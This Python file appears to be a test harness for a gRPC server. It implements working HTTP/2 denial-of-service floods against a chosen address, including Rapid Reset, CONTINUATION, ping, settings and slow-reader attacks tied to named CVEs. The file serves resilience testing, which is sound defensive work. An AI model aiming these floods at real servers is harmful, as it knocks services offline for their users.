"""Hostile HTTP/2 clients, one per attack family, run as their own process against a gRPC port on loopback.

    python tests/serve/h2_floods.py rapid_reset 127.0.0.1:8501 --seconds 3

Each flood connects, sends its frames as fast as the socket takes them, and when the server answers
with GOAWAY (or closes) connects again, until ``--seconds`` pass; then it prints one JSON line: the
connections made, the frames sent, the GOAWAY error codes seen (by name) and how many connections the
server closed. Raw frames are built with ``struct`` and HPACK with the ``hpack`` library, so the
attacks do exactly what the name says, including what a well-behaved client library never would.
The test suite (``test_hostile_h2.py``) and ``bench/h2_alternatives.py`` both run this file.
"""

from __future__ import annotations

import argparse
import json
import select
import socket
import struct
import time
from collections import Counter
from collections.abc import Callable, Iterator

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
ERRORS = {
    0: "NO_ERROR",
    1: "PROTOCOL_ERROR",
    2: "INTERNAL_ERROR",
    3: "FLOW_CONTROL_ERROR",
    4: "SETTINGS_TIMEOUT",
    5: "STREAM_CLOSED",
    6: "FRAME_SIZE_ERROR",
    7: "REFUSED_STREAM",
    8: "CANCEL",
    9: "COMPRESSION_ERROR",
    11: "ENHANCE_YOUR_CALM",
}
INFER_PATH = b"/inference.GRPCInferenceService/ModelInfer"


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">HBBBI", len(payload) >> 8, len(payload) & 0xFF, kind, flags, stream_id) + payload


def request_headers(path: bytes = INFER_PATH, extra: list[tuple[bytes, bytes]] | None = None) -> list:
    return [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        *(extra or []),
    ]


def infer_message(rows: int = 1) -> bytes:
    """A serialized, length-prefixed ModelInferRequest for ``num-fp32`` (x: [rows, 4] FP32), built by hand.

    Field numbers from grpc_service.proto: model_name=1, inputs=5 (name=1, datatype=2, shape=3), raw=7.
    """

    def field(number: int, data: bytes) -> bytes:
        return _varint(number << 3 | 2) + _varint(len(data)) + data

    shape = _varint(rows) + _varint(4)
    tensor = field(1, b"x") + field(2, b"FP32") + field(3, shape)
    message = field(1, b"num-fp32") + field(5, tensor) + field(7, struct.pack(f"<{rows * 4}f", *([1.0] * rows * 4)))
    return struct.pack(">BI", 0, len(message)) + message


def _varint(value: int) -> bytes:
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def header_blocks(headers: list) -> Iterator[bytes]:
    """HPACK blocks for the same headers again and again: the first adds them to the table, the rest index
    them, so every later block is the same bytes (encoded once: the encoder is slower than any server)."""
    encoder = hpack.Encoder()
    yield encoder.encode(headers)
    repeat = encoder.encode(headers)
    while True:
        yield repeat


class Attack:
    """What one connection of a flood sends: an opening, then bursts from ``bursts`` until stopped."""

    def __init__(self, opening: bytes, bursts: Iterator[bytes]) -> None:
        self.opening = opening
        self.bursts = bursts


def _streams(start: int = 1) -> Iterator[int]:
    stream_id = start
    while True:
        yield stream_id
        stream_id += 2


def rapid_reset() -> Attack:
    """CVE-2023-44487: open a ModelInfer call and reset it at once, over and over."""
    blocks, body = header_blocks(request_headers()), infer_message()

    def bursts() -> Iterator[bytes]:
        ids = _streams()
        while True:
            chunk = []
            for _ in range(64):
                sid = next(ids)
                chunk.append(frame(HEADERS, END_HEADERS, sid, next(blocks)))
                chunk.append(frame(DATA, END_STREAM, sid, body))
                chunk.append(frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))
            yield b"".join(chunk)

    return Attack(b"", bursts())


def ping() -> Attack:
    """CVE-2019-9512: PINGs by the thousand."""
    return Attack(b"", iter(lambda: frame(PING, 0, 0, b"floodpng") * 256, None))


def settings() -> Attack:
    """CVE-2019-9515: SETTINGS frames by the thousand."""
    payload = struct.pack(">HI", 4, 65_535)
    return Attack(b"", iter(lambda: frame(SETTINGS, 0, 0, payload) * 256, None))


def empty_data() -> Attack:
    """CVE-2019-9518: an open stream, then empty DATA frames without END_STREAM."""
    opening = frame(HEADERS, END_HEADERS, 1, hpack.Encoder().encode(request_headers()))
    return Attack(opening, iter(lambda: frame(DATA, 0, 1, b"") * 512, None))


def continuation() -> Attack:
    """CVE-2024-27316: a header block that never ends, one CONTINUATION after another."""
    opening = frame(HEADERS, 0, 1, hpack.Encoder().encode(request_headers()))
    field = b"\x00\x05x-pad\x7f\x00" + b"a" * 127  # a literal header field, split over frames
    return Attack(opening, iter(lambda: frame(CONTINUATION, 0, 1, field) * 64, None))


def empty_continuation() -> Attack:
    """CVE-2024-27316's cheap variant: empty CONTINUATION frames."""
    opening = frame(HEADERS, 0, 1, hpack.Encoder().encode(request_headers()))
    return Attack(opening, iter(lambda: frame(CONTINUATION, 0, 1, b"") * 512, None))


def priority() -> Attack:
    """CVE-2019-9513: PRIORITY frames shuffling a dependency tree."""

    def bursts() -> Iterator[bytes]:
        while True:
            yield b"".join(frame(PRIORITY, 0, 2 * i + 1, struct.pack(">IB", 2 * i + 3, 16)) for i in range(256))

    return Attack(b"", bursts())


def reset_flood() -> Attack:
    """CVE-2019-9514: malformed requests, each making the server send RST_STREAM."""
    blocks = header_blocks([*request_headers(), (b"X-Upper", b"1")])  # uppercase: malformed (§8.2.1)

    def bursts() -> Iterator[bytes]:
        ids = _streams()
        while True:
            block = next(blocks)
            yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, next(ids), block) for _ in range(64))

    return Attack(b"", bursts())


def window_dribble() -> Attack:
    """CVE-2019-9511: one-byte WINDOW_UPDATEs, each worth a tiny DATA frame of a queued reply."""
    return Attack(b"", iter(lambda: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 512, None))


def unknown_frames() -> Attack:
    """Frames of an unknown type: ignored by the protocol, so they must still cost the sender."""
    return Attack(b"", iter(lambda: frame(0xFA, 0, 0, b"12345678") * 512, None))


def big_bodies() -> Attack:
    """Memory: many streams, each sending a large message it never finishes (the server must not buffer
    more than the window it advertised)."""
    blocks = header_blocks(request_headers())
    chunk = b"\x00" * 16_384

    def bursts() -> Iterator[bytes]:
        ids = _streams()
        while True:
            sid = next(ids)
            head = frame(HEADERS, END_HEADERS, sid, next(blocks))
            prefix = frame(DATA, 0, sid, struct.pack(">BI", 0, 4_000_000) + chunk[:16_379])
            yield head + prefix + frame(DATA, 0, sid, chunk) * 16

    # Open the server's send windows wide, as a real client would, so only the receive side is limited.
    opening = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1))
    return Attack(opening + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65_535)), bursts())


def _requests(rows: int) -> Attack:
    """ModelInfer calls of ``rows`` rows back to back, as fast as the socket takes them."""
    blocks, body = header_blocks(request_headers()), infer_message(rows=rows)
    opening = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1))
    opening += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65_535))

    def bursts() -> Iterator[bytes]:
        ids = _streams()
        while True:
            sid = next(ids)
            yield frame(HEADERS, END_HEADERS, sid, next(blocks)) + b"".join(
                frame(DATA, END_STREAM if i + 16_384 >= len(body) else 0, sid, body[i : i + 16_384])
                for i in range(0, len(body), 16_384)
            )

    return Attack(opening, bursts())


def slow_reader() -> Attack:
    """CVE-2019-9517: valid calls (64 rows, the model's most), never reading a reply: the server must stop reading."""
    return _requests(rows=64)


def refused_calls() -> Attack:
    """Calls of 512 rows, over the model's 64 per request: each is refused, as fast as the server answers."""
    return _requests(rows=512)


FLOODS: dict[str, Callable[[], Attack]] = {
    "rapid_reset": rapid_reset,
    "ping": ping,
    "settings": settings,
    "empty_data": empty_data,
    "continuation": continuation,
    "empty_continuation": empty_continuation,
    "priority": priority,
    "reset_flood": reset_flood,
    "window_dribble": window_dribble,
    "unknown_frames": unknown_frames,
    "big_bodies": big_bodies,
    "slow_reader": slow_reader,
    "refused_calls": refused_calls,
}


def _goaway_codes(data: bytearray) -> list[int]:
    """GOAWAY error codes of the complete frames in ``data``, which keeps only a partial last frame."""
    codes, position = [], 0
    while len(data) - position >= 9:
        high, low, kind, _flags, _sid = struct.unpack_from(">HBBBI", data, position)
        size = (high << 8) | low
        if len(data) - position - 9 < size:
            break
        if kind == GOAWAY and size >= 8:
            codes.append(struct.unpack_from(">I", data, position + 13)[0])
        position += 9 + size
    del data[:position]
    return codes


def run(kind: str, address: str, seconds: float, read: bool = True) -> dict:
    """Flood ``address`` for ``seconds``; reconnect after each GOAWAY. ``read=False``: never read replies."""
    host, port = address.rsplit(":", 1)
    deadline = time.monotonic() + seconds
    stats: Counter[str] = Counter()
    bytes_sent = 0
    while time.monotonic() < deadline:
        attack = FLOODS[kind]()
        try:
            sock = socket.create_connection((host, int(port)), timeout=2)
        except OSError:
            stats["refused"] += 1
            time.sleep(0.01)
            continue
        stats["connections"] += 1
        sock.setblocking(False)
        received = bytearray()
        pending = PREFACE + frame(SETTINGS, 0, 0) + attack.opening
        closed = False
        while not closed and time.monotonic() < deadline:
            if not pending:
                pending = next(attack.bursts)
            readable, writable, _ = select.select([sock] if read else [], [sock], [], 0.05)
            if readable:
                try:
                    chunk = sock.recv(1 << 20)
                except OSError:
                    chunk = b""
                if not chunk:
                    closed = True
                received += chunk
                for code in _goaway_codes(received):
                    stats[f"goaway_{ERRORS.get(code, str(code))}"] += 1
            if writable and not closed:
                try:
                    sent = sock.send(pending)
                except (BlockingIOError, InterruptedError):
                    sent = 0
                except OSError:
                    closed = True
                    sent = 0
                bytes_sent += sent
                pending = pending[sent:]
        if closed:
            stats["closed_by_server"] += 1
        sock.close()
    return {"flood": kind, **stats, "bytes_sent": bytes_sent}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("kind", choices=sorted(FLOODS))
    parser.add_argument("address", help="host:port of the gRPC (HTTP/2) port")
    parser.add_argument("--seconds", type=float, default=3.0)
    parser.add_argument("--no-read", action="store_true", help="never read what the server sends")
    args = parser.parse_args()
    print(json.dumps(run(args.kind, args.address, args.seconds, read=not args.no_read)), flush=True)


if __name__ == "__main__":
    main()
